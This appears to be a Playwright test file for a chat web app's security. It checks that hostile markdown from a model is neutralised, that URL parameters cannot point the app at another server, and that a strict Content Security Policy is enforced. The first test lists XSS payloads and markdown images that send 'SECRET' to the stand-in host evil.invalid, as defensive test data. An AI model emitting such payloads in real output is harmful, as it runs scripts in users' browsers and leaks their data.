import { expect, test } from './fixtures.ts'

test('hostile markdown runs no script, loads nothing and leaves nothing but text', async ({ app, provider, pageErrors }) => {
  const requests: string[] = []
  app.page.on('request', (request) => requests.push(request.url()))
  const dialogs: string[] = []
  app.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await app.open()
  await app.send('Be evil')
  const call = await provider.nextCall()
  const hostile = [
    '<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '[click](javascript:alert(3))', '[click](data:text/html,<script>alert(4)</script>)',
    '![secret](https://evil.invalid/?q=SECRET)', '![ref][r]\n\n[r]: https://evil.invalid/ref?q=SECRET', '<svg onload=alert(5)>', '<iframe srcdoc="<script>alert(6)</script>">',
    '<a href="vbscript:alert(7)">x</a>', '<https://evil.invalid/auto>', '<style>body{display:none}</style>', '<base href="https://evil.invalid/">',
  ]
  // What refers to a definition that is still to come changes when it comes, so it arrives in one piece; its prefixes are held without a browser.
  for (const piece of hostile) call.text(...(piece.includes('[r]') ? [`${piece}\n\n`] : `${piece}\n\n`))
  // Behind its definition a picture grows letter by letter.
  call.text('[known]: https://evil.invalid/known?q=SECRET\n\n', ...'![ref][known] ![known][] ![known]\n\n')
  call.text('the end')
  call.finish()
  await app.ends('completed')
  await expect.poll(() => app.answerText()).toContain('the end')
  const answer = app.answers.last()
  for (const link of await answer.locator('a').all()) {
    expect(await link.getAttribute('href')).toMatch(/^(https?:|mailto:|#)/)
    expect(await link.getAttribute('rel')).toContain('noopener')
  }
  expect(await answer.locator('script, iframe, style, base, svg[onload], object, embed').count()).toBe(0)
  expect(requests.filter((url) => url.includes('evil.invalid'))).toEqual([])
  expect(dialogs).toEqual([])
  expect(pageErrors).toEqual([])
})

test('the page asks nobody but its own server, whatever its address says', async ({ app, wire }) => {
  const elsewhere: string[] = []
  app.page.on('request', (request) => {
    if (new URL(request.url()).origin !== new URL(wire.url).origin) elsewhere.push(request.url())
  })
  const evil = encodeURIComponent('https://evil.invalid')
  await app.open(`/?api=${evil}&apiUrl=${evil}&base=${evil}&baseUrl=${evil}&server=${evil}&url=${evil}&origin=${evil}&token=x#${evil}`)
  await expect(app.page.getByRole('button', { name: 'New chat' }).first()).toBeVisible()
  await app.send('Where to?')
  expect(elsewhere).toEqual([])
})

test('the page is served under a strict policy, with Trusted Types enforced', async ({ app, wire }) => {
  await app.open()
  const policy = (await fetch(wire.url)).headers.get('content-security-policy') ?? ''
  for (const rule of ["default-src 'self'", "script-src 'self'", "style-src 'self'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'", "require-trusted-types-for 'script'"]) expect(policy).toContain(rule)
  const refused = await app.page.evaluate(() => {
    try {
      document.createElement('div').innerHTML = '<b>x</b>'
      return 'accepted'
    } catch (error) {
      return (error as Error).name
    }
  })
  expect(refused).toBe('TypeError')
})
